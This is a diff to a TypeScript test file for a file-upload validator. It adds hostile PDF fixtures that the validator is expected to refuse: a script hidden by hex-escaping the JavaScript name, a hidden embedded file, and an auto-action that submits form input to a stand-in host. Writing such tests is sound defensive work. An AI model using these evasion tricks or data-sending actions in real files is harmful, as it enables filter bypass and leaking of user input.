@@ -82,6 +82,21 @@ const hostile: readonly [what: string, type: string, bytes: () => Buffer][] = [
     'application/pdf',
     () => Buffer.from('%PDF-1.4\n<</EmbeddedFile 2 0 R>>\n%%EOF'),
   ],
+  [
+    'a PDF with a script under another spelling of its name',
+    'application/pdf',
+    () => Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>\n%%EOF'),
+  ],
+  [
+    'a PDF with a file packed into it that does not say so',
+    'application/pdf',
+    () => Buffer.from('%PDF-1.4\n<</Names<</EmbeddedFiles 3 0 R>>/EF<</F 5 0 R>>>>\n%%EOF'),
+  ],
+  [
+    'a PDF that sends what is typed into it',
+    'application/pdf',
+    () => Buffer.from('%PDF-1.4\n<</AA<</O<</S/SubmitForm/F(http://h99.example)>>>>>>\n%%EOF'),
+  ],
   ['a PNG of 4 billion points', 'image/png', hugePng],
   ['a JPEG of 4 billion points', 'image/jpeg', hugeJpeg],
   ['a PNG that unpacks to more than it says', 'image/png', zipBomb],
@@ -93,6 +108,15 @@ describe.each(['claim', 'filing'] as const)('to a %s', (door) => {
     expect(answer.body.code).toBe('file-refused')
     expect(left).toBe(404)
   })
+})
+
+test('a scanned PDF is taken, also where its picture happens to hold the letters of a script', () => {
+  const scan = Buffer.concat([
+    Buffer.from('%PDF-1.4\n1 0 obj<</Subtype/Image/Filter/DCTDecode/Length 24>>stream\n'),
+    Buffer.from('\u0080/JS\u0081#/EF\u0082/JSON #4a', 'latin1'),
+    Buffer.from('\nendstream endobj\n%%EOF'),
+  ])
+  expect(isWhole('application/pdf', scan)).toBe(true)
 })
 
 test('a type that is not taken is not even announced', async () => {
